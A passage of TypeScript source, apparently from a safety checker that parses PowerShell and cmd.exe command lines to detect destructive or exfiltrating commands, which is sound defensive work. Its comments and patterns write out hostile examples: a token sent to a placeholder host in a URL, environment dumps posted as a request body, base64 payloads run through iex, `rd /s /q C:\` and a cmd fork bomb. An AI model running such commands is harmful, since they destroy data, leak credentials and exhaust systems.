  if ((name === "invoke-item" || name === "ii") && words.slice(1).some((w) => /^\\\\|^https?:\/\//i.test(w.text))) {
    // `Invoke-Item \\host\share\run.bat`: a file from another machine, run.
    const fetch = simple(["invoke-webrequest"], [false], cwd, via, true);
    fetch.pipeTo = ["iex"];
    out.push(fetch);
    return out;
  }
  const paths: string[] = [];
  const pathDyn: boolean[] = [];
  const flags = new Set<string>();
  const valueOf = new Map<string, string>();
  /** Paths named by -Path/-LiteralPath (not positionals). */
  const explicit: string[] = [];
  for (let k = 0; k < rest.length; k++) {
    const w = rest[k] as PsWord;
    const p = paramName(w);
    if (p !== undefined) {
      const attached = /^-[\w-]+:(.+)$/.exec(w.text);
      if (attached?.[1]) {
        if (isParam(p, "path") || isParam(p, "literalpath", 2) || (FILE_PATH_CMDLETS.has(name) && isParam(p, "filepath", 2))) {
          // `-Path:C:\Users\me`: the value bound by the colon is the path, as a word of its own would be.
          const raw = w.raw.slice(w.raw.indexOf(":") + 1);
          const e = pathValue({ text: attached[1], raw, quoted: /^['"]/.test(raw) }, vars, home, cwd);
          paths.push(e.text);
          explicit.push(e.text);
          pathDyn.push(e.dynamic);
        } else if (/^\$true$/i.test(attached[1])) flags.add(p);
        else if (!/^\$false$/i.test(attached[1])) valueOf.set(p, attached[1]);
        continue;
      }
      const filePath = FILE_PATH_CMDLETS.has(name) && isParam(p, "filepath", 2);
      if (isParam(p, "path") || isParam(p, "literalpath", 2) || filePath || VALUE_PARAMS.some((v) => isParam(p, v, 2) && (p.length >= 3 || v === p))) {
        const v = rest[k + 1];
        if (v) {
          const pv = pathValue(v, vars, home, cwd);
          const e = pv.text;
          if (isParam(p, "path") || isParam(p, "literalpath", 2) || filePath) {
            paths.push(e);
            explicit.push(e);
            pathDyn.push(pv.dynamic);
          } else valueOf.set(p, e);
          k++;
        }
        continue;
      }
      flags.add(p);
      continue;
    }
    const e = pathValue(w, vars, home, cwd);
    paths.push(e.text);
    pathDyn.push(e.dynamic);
  }
  const recurse = [...flags].some((f) => isParam(f, "recurse", 1));
  if (REMOVE.has(name)) {
    let targets = paths;
    let dyn = pathDyn;
    // `Get-ChildItem ~ -Recurse | Remove-Item`: what the listing found is deleted.
    if (targets.length === 0 && prev && LIST.has(prev.program)) {
      // `Get-ChildItem -Recurse -Filter *.log | Remove-Item`: only what matches the filter, somewhere below.
      const below = prev.argv.includes("-filter") ? "{}" : "*";
      // (`Get-ChildItem *`: a glob lists the matches and what the matching folders hold; the matches themselves go.
      // `Get-ChildItem HKCU:\Software | Remove-Item -Recurse`: every subkey of a registry key is the key emptied.)
      targets = (prev.argv.slice(1).filter((w) => !w.startsWith("-")) as string[]).map((p) => (below === "*" && (/[*?]$/.test(p) || /^(?:HK\w{1,4}|Registry):/i.test(p)) ? p : `${p.replace(/\/+$/, "")}/${below}`));
      if (targets.length === 0) targets = [`./${below}`];
      dyn = targets.map(() => false);
    }
    // `Get-Item ~ | Remove-Item`, `'C:\x' | Remove-Item`, `$targets | Remove-Item`: the piped items are the targets.
    if (targets.length === 0 && prev && (prev.program === "get-item" || prev.program === "gi" || (prev.program === "echo" && prev.synthetic))) {
      targets = prev.argv.slice(1).filter((w) => !w.startsWith("-")).map((w) => windowsPath(w, home));
      dyn = targets.map((_, k) => prev.dynamic[k + 1] ?? false);
    }
    // `rd /s /q C:\x` typed at PowerShell out of cmd habit: the switches are no paths, and `/s` says the whole tree was meant.
    const cmdHabit = name === "rd" || name === "rmdir" || name === "del" || name === "erase";
    const cmdSwitch = (t: string, k: number) => cmdHabit && !dyn[k] && /^\/[a-z]$/i.test(t);
    const slashS = targets.some((t, k) => cmdSwitch(t, k) && t.toLowerCase() === "/s");
    if (cmdHabit) {
      dyn = dyn.filter((_, k) => !cmdSwitch(targets[k] ?? "", k));
      targets = targets.filter((t, k) => !cmdSwitch(t, k));
    }
    const recursive = recurse || slashS || (prev !== undefined && LIST.has(prev.program) && prev.argv.includes("-recurse"));
    out.push(simple(["rm", ...(recursive ? ["-r"] : []), "-f", ...targets], [false, ...(recursive ? [false] : []), false, ...dyn], cwd, via));
    return out;
  }
  if (READ.has(name) || name === "select-string" || name === "sls") {
    // Select-String's first positional is the pattern, unless -Pattern names it; with -Path, positionals are patterns.
    const files = name === "select-string" || name === "sls" ? (explicit.length > 0 ? explicit : paths.slice(valueOf.has("pattern") ? 0 : 1)) : paths;
    out.push(simple(["cat", ...files], [false, ...pathDyn.slice(paths.length - files.length)], cwd, via));
    return out;
  }
  if (COPY.has(name) || MOVE.has(name)) {
    const dest = valueOf.get("destination");
    const all = dest !== undefined ? [...paths, dest] : paths;
    out.push(simple([COPY.has(name) ? "cp" : "mv", ...(recurse && COPY.has(name) ? ["-r"] : []), ...all], [false, ...(recurse && COPY.has(name) ? [false] : []), ...all.map(() => false)], cwd, via));
    return out;
  }
  if ((name === "new-item" || name === "ni") && [...flags].some((f) => isParam(f, "force", 2)) && !/^dir/i.test(valueOf.get("itemtype") ?? "")) {
    // `New-Item -ItemType File -Force -Path ~\.bashrc`: -Force replaces an existing file with an empty one.
    const targets = explicit.length > 0 ? explicit : paths.filter((p) => !/^(?:file|directory)$/i.test(p)).slice(0, 1);
    out.push(simple(["truncate", ...targets], [false, ...targets.map(() => false)], cwd, via));
    return out;
  }
  if (name === "clear-content" || name === "clc") {
    out.push(simple(["truncate", ...paths], [false, ...pathDyn], cwd, via));
    return out;
  }
  if (LIST.has(name)) {
    const named = paths.find((p) => /^env:\/?\w+$/i.test(p));
    // `gci env:*TOKEN*`: every variable the pattern selects, with its value.
    const selected = paths.find((p) => /^env:\/?[\w*?]*[*?][\w*?]*$/i.test(p));
    if (selected !== undefined) {
      if (SECRETISH_NAME.test(selected.slice(4)) || !/[A-Za-z]{2}/.test(selected.slice(4))) out.push(simple(["cat", "env:"], [false, false], cwd, via, true));
      return out;
    }
    if (paths.some((p) => /^env:\/?$/i.test(p))) out.push(simple(["env"], [false], cwd, via), simple(["cat", "env:"], [false, false], cwd, via, true));
    else if (named !== undefined) out.push(simple(["echo", `$${named.replace(/\//, "")}`], [false, true], cwd, via, true));
    else {
      const filtered = valueOf.has("filter") || valueOf.has("include") || paths.some((p) => /[*?]/.test(p.slice(p.lastIndexOf("/") + 1)) && !/^\*$/.test(p.slice(p.lastIndexOf("/") + 1)));
      const listed = filtered ? paths.map((p) => (/[*?]/.test(p.slice(p.lastIndexOf("/") + 1)) ? p.slice(0, Math.max(1, p.lastIndexOf("/"))) : p)) : paths;
      const tail = [...(recurse ? ["-recurse"] : []), ...(filtered ? ["-filter"] : [])];
      out.push(simple([name, ...listed, ...tail], [false, ...pathDyn, ...tail.map(() => false)], cwd, via));
    }
    return out;
  }
  if (name === "write-output" || name === "write-host" || name === "echo" || name === "write") {
    const ws = rest.filter((w) => paramName(w) === undefined);
    // `Write-Host "token: $env:GITHUB_TOKEN"`: a double-quoted string puts the variable's value in.
    const inlined = (w: PsWord) => w.raw.startsWith('"') && SECRET_VAR.test(w.raw);
    out.push(simple(["echo", ...ws.map((w) => (/^\$env:/i.test(w.raw) || inlined(w) ? w.raw : psExpand(w, vars, home, cwd).text))], [false, ...ws.map((w) => (/^\$/.test(w.raw) && !w.quoted) || inlined(w))], cwd, via));
    return out;
  }
  if (name === "set-content" || (name === "sc" && !/\.exe$/i.test(first.text) && !scExe) || name === "out-file" || name === "add-content" || name === "ac" || name === "tee-object" || name === "tee") {
    // Writes (Set-Content, Out-File overwrite; Add-Content appends) into its -Path: judged like tee.
    const targets = explicit.length > 0 ? explicit : paths.slice(0, 1);
    // An overwrite replaces what the file held, like `: > file`.
    if (!(name === "add-content" || name === "ac" || flags.has("append"))) out.push(simple(["truncate", ...targets], [false, ...targets.map(() => false)], cwd, via, true));
    const tee = simple(["tee", ...(name === "add-content" || name === "ac" || flags.has("append") ? ["-a"] : []), ...targets], [false, ...(name === "add-content" || name === "ac" || flags.has("append") ? [false] : []), ...targets.map(() => false)], cwd, via);
    // The literal it writes goes with it, as tee's here-string: a profile line is judged by what it runs.
    const text = literalWrite(name, rest, prev)?.text;
    if (text !== undefined) tee.redirects = [{ op: "<<<", fd: "", target: text }];
    out.push(tee);
    return out;
  }
  if (DISK.has(name) || (name === "format" && paths.some((p) => p === "/"))) {
    out.push(simple(["format-volume", ...paths], [false, ...pathDyn], cwd, via));
    return out;
  }
  if (FETCH.has(name)) {
    const sent = ["infile", "body"].map((k) => valueOf.get(k)).filter((v): v is string => v !== undefined);
    // Start-BitsTransfer saves to -Destination, its second operand, or the URL's file name in the current folder.
    const saved = valueOf.get("outfile") ?? (name === "start-bitstransfer" ? (valueOf.get("destination") ?? paths[1] ?? paths[0]?.replace(/[?#].*$/, "").replace(/^.*[\\/]/, "")) : undefined);
    const o = saved !== undefined ? ["-o", saved] : [];
    // `-Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)`, `-Body (gci env: | Out-String)`: the environment is what is sent.
    const body = rest.find((w, k) => k > 0 && /^(?:body|infile)$/.test(paramName(rest[k - 1] as PsWord) ?? ""))?.raw ?? "";
    if (/GetEnvironmentVariables\(\s*\)|\b(?:Get-ChildItem|gci|ls|dir|Get-Item|gi)\s+env:\s*[|)\s]/i.test(body)) {
      const dump = simple(["env"], [false], cwd, via, true);
      dump.pipeTo = ["invoke-webrequest"];
      out.push(dump);
    }
    // `-Uri http://...` names the URL as a positional one does: what is requested, and from where.
    const uri = valueOf.get("uri");
    const url = uri !== undefined && !paths.includes(uri) ? [uri] : [];
    // `-Body $env:X` is what is sent; `-InFile f` is a file uploaded, as curl's `-T` says it.
    const bodyArgs = [...(valueOf.has("body") ? ["-d", valueOf.get("body") ?? ""] : []), ...(valueOf.has("infile") ? ["-T", valueOf.get("infile") ?? ""] : [])];
    // `iwr "https://x/?k=$env:GITHUB_TOKEN"`: the variable's value goes out in the URL.
    for (const w of rest) if (w.raw.startsWith('"') && SECRET_VAR.test(w.raw) && /^"https?:\/\//i.test(w.raw)) bodyArgs.push(w.raw.slice(1, -1));
    out.push(simple(["invoke-webrequest", ...url, ...paths, ...bodyArgs, ...o], [false, ...url.map(() => false), ...pathDyn, ...bodyArgs.map(() => false), ...o.map(() => false)], cwd, via));
    return out;
  }
  if (IEX.has(name)) {
    const text = rest.filter((w) => paramName(w) === undefined);
    // `'Remove-Item ~ -Recurse' | iex`: the text piped in is the code run.
    if (text.length === 0 && prev?.synthetic && prev.program === "echo" && prev.argv[1] !== undefined && !(prev.dynamic[1] ?? false)) host.powershell(prev.argv[1], cwd, "| iex");
    // `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('...')))`: decoded data run as code.
    for (const w of text) {
      // A single-quoted text is code read on its own below: a decode in it only gives a string (`iex '[Text.Encoding]::..GetString(..)'` prints it).
      if (!/FromBase64String/i.test(w.raw) || w.raw.startsWith("'")) continue;
      const lit = /FromBase64String\(\s*['"]([A-Za-z0-9+/=\s]+)['"]/i.exec(w.raw)?.[1];
      const decoded = lit !== undefined && lit.length <= 1 << 16 ? Buffer.from(lit.replace(/\s+/g, ""), "base64").toString(/Unicode/i.test(w.raw) ? "utf16le" : "utf8") : undefined;
      if (decoded !== undefined && decoded !== "") host.powershell(decoded, cwd, "iex FromBase64String");
      const decode = simple(["base64", "-d"], [false, false], cwd, via, true);
      decode.pipeTo = ["iex"];
      out.push(decode);
    }
    for (const w of text) {
      if (w.quoted) host.powershell(w.text, cwd, "iex");
      // `iex ('Remove-Item' + ' ~ -Recurse')`, `iex (-join (..))`, `iex ('{0} {1}' -f ..)`: the string built on the line.
      else if (/^\(/.test(w.raw)) {
        const built = psStringExpr(w.raw, vars, home, cwd);
        if (built !== undefined) host.powershell(built, cwd, "iex (...)");
      }
      // `$cmd = 'git reset --hard'; Invoke-Expression $cmd`
      const known = /^\$\w+$/.test(w.raw) ? vars.get(w.raw.slice(1).toLowerCase()) : undefined;
      if (known !== undefined && known !== DOWNLOADED) host.powershell(known, cwd, "iex $var");
    }
    out.push(simple(["iex"], [false], cwd, via));
    return out;
  }
  if (START.has(name)) {
    const argList = valueOf.get("argumentlist") ?? "";
    // `-ArgumentList '-enc', 'B64'`, `-ArgumentList @('-c', '..')`: the list runs on over words joined by commas.
    const alAt = rest.findIndex((w) => isParam(paramName(w) ?? "", "argumentlist", 2) && !w.raw.includes(":"));
    const listed: PsWord[] = [];
    for (let k = alAt + 1; alAt >= 0 && k < rest.length; k++) {
      const w = rest[k] as PsWord;
      listed.push(w);
      if (!w.raw.endsWith(",") && !(rest[k + 1]?.raw.startsWith(",") ?? false)) break;
    }
    const listedText = new Set(listed.slice(1).map((w) => pathValue(w, vars, home, cwd).text));
    const positional = paths.filter((p) => !listedText.has(p));
    const file = valueOf.get("filepath") ?? positional[0];
    if (file !== undefined) {
      const joined = listed.length > 0 ? listed.map((w) => w.raw).join(" ") : argList;
      const raw = /^@\(([\s\S]*)\)$/.exec(joined.trim())?.[1] ?? joined;
      // One quoted string is the whole command line (`-ArgumentList '/c rd /s /q C:\'`): Windows joins the list with spaces anyway.
      const args = [...raw.matchAll(/'((?:[^']|'')*)'|"([^"]*)"|([^,\s]+)/g)].flatMap((m) => (m[1]?.replaceAll("''", "'") ?? m[2] ?? m[3] ?? "").split(/\s+/)).filter((x) => x !== "");
      const extra = valueOf.has("filepath") ? positional : positional.slice(1);
      out.push(simple([file, ...extra, ...args], [false, ...extra.map(() => false), ...args.map(() => false)], cwd, via));
    }
    return out;
  }
  // `robocopy C:\empty C:\Users\me /MIR`: the destination loses what the source lacks.
  if (name === "robocopy" && rest.some((w) => /^\/(?:mir|purge)$/i.test(w.text))) {
    const ops = rest.filter((w) => !/^\//.test(w.text)).slice(0, 2).map((w) => psExpand(w, vars, home, cwd).text);
    out.push(simple(["rsync", "--delete", ...ops], [false, false, ...ops.map(() => false)], cwd, via));
    return out;
  }
  // Anything else runs as written: git, npm, powershell -c, cmd /c, certutil...
  // A script block argument (`% { .. }`, `pwsh -Command { .. }`) was read as code above: its text is no argument's.
  // (A filter's block is its predicate, which the process-kill model reads: `Where-Object {$_.Name -like 'shep*'}`.)
  const filter = name === "where-object" || name === "where" || name === "?";
  const block = (w: PsWord) => !filter && !w.quoted && w.raw.charCodeAt(0) === 123 && w.raw.endsWith("}");
  // `Set-Acl -Path:$HOME\.ssh`: a colon-bound value is the parameter's value, as a word of its own would be.
  const bound = rest.flatMap((w): PsWord[] => {
    const at = paramName(w) !== undefined ? w.raw.indexOf(":") : -1;
    if (at < 0 || /^\$(?:true|false)$/i.test(w.raw.slice(at + 1))) return [w];
    const raw = w.raw.slice(at + 1);
    return [{ text: w.raw.slice(0, at), raw: w.raw.slice(0, at), quoted: false }, { text: w.text.slice(w.text.indexOf(":") + 1), raw, quoted: /^['"]/.test(raw) }];
  });
  // `Get-Item (Get-Location).Path | Remove-Item`: what an item cmdlet names is what the next stage gets.
  const item = name === "get-item" || name === "gi";
  // `pwsh -c 'Invoke-Item \\\\host\\x.bat'`, `cmd /c '..'`: a shell's single-quoted script is its text as written, no path to normalize.
  const shell = /^(?:pwsh|powershell|cmd)$/.test(name);
  // `icacls (Resolve-Path ~).Path /T`, `wsl rm -rf ([Environment]::GetFolderPath('UserProfile'))`: an expression the line can evaluate is its value.
  const evaluated = (w: PsWord) => (!w.quoted && w.raw.charCodeAt(0) === 40 ? psStringExpr(w.raw, vars, home, cwd) : undefined);
  const value = (w: PsWord): { text: string; dynamic: boolean } => {
    if (item) return pathValue(w, vars, home, cwd);
    if (shell && w.raw.startsWith("'")) return { text: w.text, dynamic: false };
    const known = evaluated(w);
    return known !== undefined ? { text: windowsPath(known, home, cwd), dynamic: false } : psExpand(w, vars, home, cwd);
  };
  const argv = [first.text, ...bound.map((w) => (block(w) ? "{}" : paramName(w) !== undefined ? w.text : value(w).text))];
  out.push(simple(argv, [false, ...bound.map((w) => !block(w) && paramName(w) === undefined && value(w).dynamic)], cwd, via));
  return out;
}

/** The script a `powershell`/`pwsh` command line runs: -Command text, or -EncodedCommand decoded. */
export function powershellScript(argv: string[]): string | undefined {
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i] ?? "";
    const p = a.startsWith("-") || a.startsWith("/") ? a.slice(1).toLowerCase() : undefined;
    if (p === undefined) return argv.slice(i).join(" ");
    if (p === "" ) continue;
    if (isParam(p, "command", 1)) return argv.slice(i + 1).join(" ");
    if (p === "e" || p === "ec" || isParam(p, "encodedcommand", 2)) {
      const v = argv[i + 1];
      return v === undefined ? undefined : decodeUtf16Base64(v);
    }
    if (isParam(p, "file", 1)) return undefined;
    if (["executionpolicy", "ep", "windowstyle", "w", "version", "v", "configurationname", "workingdirectory", "wd", "outputformat", "of", "inputformat", "if", "psconsolefile", "settingsfile", "encodedarguments", "ea"].some((x) => x === p || (p.length >= 3 && x.startsWith(p)))) {
      i++;
      continue;
    }
  }
  return undefined;
}

/** -EncodedCommand: base64 of UTF-16LE text. */
export function decodeUtf16Base64(b64: string): string | undefined {
  if (!/^[A-Za-z0-9+/=_-]+$/.test(b64)) return undefined;
  const bytes = Buffer.from(b64, "base64");
  if (bytes.length < 2) return undefined;
  return bytes.toString("utf16le").replace(/\0/g, "");
}

/** The command line `cmd /c ...` (or /k) runs, undefined when it runs none. */
export function cmdScript(argv: string[]): string | undefined {
  for (let i = 1; i < argv.length; i++) {
    const a = (argv[i] ?? "").toLowerCase();
    if (a === "/c" || a === "/k" || a === "/r" || a === "//c" || a === "//k") return argv.slice(i + 1).join(" ");
    if (/^\/[a-z](?::\w+)?$/.test(a)) continue;
    return undefined;
  }
  return undefined;
}

/** cmd's %VARS% it can know, as paths. */
function cmdExpand(word: string, home: string, cwd: string, vars?: Map<string, string>): { text: string; dynamic: boolean } {
  let dynamic = false;
  const text = word.replace(/%([A-Za-z_]\w*)%|!([A-Za-z_]\w*)!/g, (m, pct: string | undefined, bang: string | undefined, at: number) => {
    const name = pct ?? bang ?? "";
    // `set x=rd& call %x% ..`, `cmd /v:on /c "set a=r&& !a!.."`: a variable set earlier on the line.
    const set = vars?.get(name.toLowerCase());
    if (set !== undefined) return set;
    if (bang !== undefined) return m;
    // `%HOMEDRIVE%%HOMEPATH%`, `%SystemDrive%\Windows`: the drive is a drive letter, read with what follows it.
    if (/^(?:homedrive|systemdrive)$/i.test(name)) return "C:";
    const f = Object.hasOwn(ENV_PATHS, name.toLowerCase()) ? ENV_PATHS[name.toLowerCase()] : undefined;
    // `%TEMP%\x` through bash loses its backslash (`%TEMP%x`): a path variable is always followed by a separator.
    const next = word[at + m.length];
    if (f) return f(home, cwd) + (next !== undefined && next !== "\\" && next !== "/" ? "/" : "");
    dynamic = true;
    return m;
  });
  return { text: windowsPath(text, home, cwd), dynamic };
}

function cmdWords(src: string): string[] {
  const out: string[] = [];
  let cur = "";
  let started = false;
  for (let i = 0; i < src.length; i++) {
    const c = src[i] ?? "";
    if (c === '"') {
      const j = src.indexOf('"', i + 1);
      cur += j < 0 ? src.slice(i + 1) : src.slice(i + 1, j);
      started = true;
      i = j < 0 ? src.length : j;
    } else if (c === "^" && i + 1 < src.length) {
      cur += src[++i];
      started = true;
    } else if (c === " " || c === "\t") {
      if (started) out.push(cur);
      cur = "";
      started = false;
    } else {
      cur += c;
      started = true;
    }
  }
  if (started) out.push(cur);
  return out;
}

/** Reads a cmd.exe line (`rd /s /q C:\`, `del /s /q`, `type .env`, `git ...`) and hands its commands to the host. */
export function readCmd(src: string, cwd: string, via: string[], host: WindowsHost, depth = 0): void {
  const home = host.home;
  const vars = new Map<string, string>();
  /** Files `certutil -decode` wrote on the line, by lower-case name: running one runs decoded data. */
  const decoded = new Set<string>();
  // Split on & && || | outside quotes.
  const stages: { text: string; pipe: boolean }[] = [];
  let start = 0;
  let inQuote = false;
  for (let i = 0; i <= src.length; i++) {
    const c = src[i];
    // `echo %0^|%0 > b.bat`: a caret makes the next character plain text.
    if (c === "^" && !inQuote) {
      i++;
      continue;
    }
    if (c === '"') inQuote = !inQuote;
    // `^|`, `^&`: cmd's escape makes the operator a character of the command's own arguments.
    if (c === "^" && !inQuote) {
      i++;
      continue;
    }
    if (i === src.length || (!inQuote && (c === "&" || c === "|"))) {
      const pipe = c === "|" && src[i + 1] !== "|";
      stages.push({ text: src.slice(start, i), pipe });
      if (src[i + 1] === c) i++;
      start = i + 1;
    }
  }
  let pipeline: SimpleCommand[] = [];
  const flush = () => {
    feedStages(pipeline.map((c) => [c]), host.note);
    for (const c of pipeline) host.run(c);
    pipeline = [];
  };
  for (const st of stages) {
    // `echo rm -rf ~ > x.bat`, `echo %0^|%0 > b.bat`: a literal echoed into a file, for a later run of it on the line.
    const echoed = /^\s*echo\s+(.*?)\s*(>>?)\s*"?([^\s"]+)"?\s*$/is.exec(st.text);
    if (echoed?.[1] !== undefined && echoed[3] !== undefined) {
      const path = resolvePath(cmdExpand(echoed[3], home, cwd, vars).text, cwd, home);
      const text = cmdExpand(echoed[1].replace(/\^(.)/g, "$1"), home, cwd, vars).text;
      host.write(path, echoed[2] === ">>" ? `${host.written(path) ?? ""}${text}\n` : `${text}\n`);
    }
    // `for /l %i in (0,0,1) do start cmd`: a counted loop whose step is 0 never ends; starting a process in it has no bound.
    if (/^\s*for\s+\/l\s+%%?\w\s+in\s*\(\s*-?\d+\s*,\s*0\s*,/i.test(st.text) && /\bdo\s+\(?\s*start\b/i.test(st.text)) {
      const bomb = simple(["start", "cmd"], [false, false], cwd, via, true);
      bomb.selfSpawn = true;
      host.run(bomb);
      continue;
    }
    // `x.bat`, `call x.cmd`, `start b.cmd`: a batch file written on the line, run.
    const lead = /^\s*(?:call\s+|start\s+(?:"[^"]*"\s+)?)?"?([^\s"&|]+\.(?:bat|cmd))"?\s*$/i.exec(st.text)?.[1];
    const batch = lead !== undefined ? host.written(resolvePath(cmdExpand(lead, home, cwd, vars).text, cwd, home)) : undefined;
    if (batch !== undefined && depth < 4) {
      if (BATCH_SELF.test(batch)) {
        const bomb = simple([lead ?? ""], [false], cwd, via, true);
        bomb.selfSpawn = true;
        pipeline.push(bomb);
      } else for (const line of batch.split(/\r?\n/).slice(0, 64)) if (line.trim() !== "") readCmd(line, cwd, via, host, depth + 1);
      if (!st.pipe) flush();
      continue;
    }
    // `for /d %d in (C:\Users\me\*) do rd /s /q %d`: the body runs once per item of the set.
    const loop = /^\s*for\s+(?:\/[dlrf]\s+(?:"[^"]*"\s+|[^%\s]+\s+)?)*(%%?[A-Za-z])\s+in\s*\(([^)]*)\)\s*do\s+(.+)$/is.exec(st.text);
    if (loop?.[1] !== undefined && loop[2] !== undefined && loop[3] !== undefined && depth < 4) {
      const items = loop[2].split(/[\s,;]+/).filter((x) => x !== "").slice(0, 8);
      for (const item of items) readCmd(loop[3].replaceAll(loop[1], item), cwd, via, host, depth + 1);
      if (!st.pipe) flush();
      continue;
    }
    // `@rd /s /q ..`: a leading `@` only stops cmd echoing the command; the command runs.
    const said = cmdWords(st.text.trim().replace(/^@+\s*/, ""));
    // `echo {} > %USERPROFILE%\.claude\settings.json`, `type x >>y`: cmd's redirections, as the shell's are kept.
    const redirects: RedirectInfo[] = [];
    const raw: string[] = [];
    for (let k = 0; k < said.length; k++) {
      const m = k > 0 ? /^(\d?)(>>?)(.*)$/.exec(said[k] ?? "") : null;
      if (m === null) {
        raw.push(said[k] ?? "");
        continue;
      }
      const target = m[3] !== "" ? m[3] : said[++k];
      if (target !== undefined && !target.startsWith("&") && !/^nul$/i.test(target) && redirects.length < 16) redirects.push({ op: m[2] ?? ">", fd: m[1] || "1", target: cmdExpand(target, home, cwd, vars).text });
    }
    // `call %x% ..` expands the line again; `set NAME=VALUE` is remembered for the rest of the line.
    const words = (raw[0] ?? "").toLowerCase() === "call" ? raw.slice(1).map((w) => cmdExpand(w, home, cwd, vars).text) : raw.map((w, k) => (k === 0 ? cmdExpand(w, home, cwd, vars).text : w));
    if ((words[0] ?? "").toLowerCase() === "set" && /^[A-Za-z_]\w*=/.test(words[1] ?? "") && vars.size < 32) {
      const w = words.slice(1).join(" ");
      vars.set(w.slice(0, w.indexOf("=")).toLowerCase(), w.slice(w.indexOf("=") + 1).trim());
    }
    if (words.length > 0) {
      const name = (words[0] ?? "").toLowerCase().replace(/\.(?:exe|com)$/, "");
      if (name === "certutil" && words.some((w) => /^[-/]decode(?:hex)?$/i.test(w))) {
        const outFile = words.filter((w) => !/^[-/]/.test(w))[2];
        if (outFile !== undefined) decoded.add(outFile.replace(/^.*[\\/]/, "").toLowerCase());
      }
      if (decoded.has(name.replace(/^.*[\\/]/, ""))) {
        const run = simple(["base64", "-d"], [false, false], cwd, via, true);
        run.pipeTo = ["cmd"];
        host.run(run);
      }
      // `/s/q` is `/s /q`.
      const args = words.slice(1).flatMap((a) => (/^(?:\/[a-z?])+$/i.test(a) ? (a.match(/\/[a-z?]/gi) ?? []) : [a]));
      const switches = new Set(args.filter((a) => /^\/[a-z?]$/i.test(a)).map((a) => a.toLowerCase()));
      const operands = args.filter((a) => !/^\/[a-z?]$/i.test(a) && !/^\/[a-z]:/i.test(a)).map((a) => cmdExpand(a, home, cwd, vars));
      const help = switches.has("/?");
      // `cd /d C:\ && rd /s /q Windows`: later commands of the line run where cd went.
      if (!help && (name === "cd" || name === "chdir" || name === "pushd") && operands.length === 1 && operands[0]) {
        cwd = operands[0].dynamic ? "" : resolvePath(operands[0].text, cwd, home);
      }
      let cmd: SimpleCommand;
      if (!help && (name === "rd" || name === "rmdir" || name === "del" || name === "erase")) {
        const recursive = switches.has("/s");
        cmd = simple(["rm", ...(recursive ? ["-r"] : []), "-f", ...operands.map((o) => o.text)], [false, ...(recursive ? [false] : []), false, ...operands.map((o) => o.dynamic)], cwd, via);
      } else if (!help && name === "type") {
        cmd = simple(["cat", ...operands.map((o) => o.text)], [false, ...operands.map((o) => o.dynamic)], cwd, via);
      } else if (!help && name === "format" && operands.some((o) => /^\/$|^[A-Za-z]:$/.test(o.text))) {
        cmd = simple(["format-volume", ...operands.map((o) => o.text)], [false, ...operands.map(() => false)], cwd, via);
      } else if (!help && name === "robocopy" && args.some((a) => /^\/(?:mir|purge)$/i.test(a)) && operands.length >= 2) {
        cmd = simple(["rsync", "--delete", ...operands.slice(0, 2).map((o) => o.text)], [false, false, false, false], cwd, via);
      } else {
        cmd = simple([words[0] ?? "", ...operands.map((o) => o.text), ...[...switches]], [false, ...operands.map((o) => o.dynamic), ...[...switches].map(() => false)], cwd, via);
        // Programs that are not cmd built-ins keep their own arguments (git reset --hard).
        if (!["copy", "xcopy", "move", "dir", "echo", "set", "cd", "chdir", "mkdir", "md", "ren", "rename"].includes(name)) {
          cmd = simple(words.map((w, k) => (k === 0 ? w : cmdExpand(w, home, cwd, vars).text)), words.map((w, k) => k > 0 && cmdExpand(w, home, cwd, vars).dynamic), cwd, via);
        }
      }
      if (redirects.length > 0) cmd.redirects = redirects;
      pipeline.push(cmd);
    }
    if (!st.pipe) flush();
  }
  flush();
}
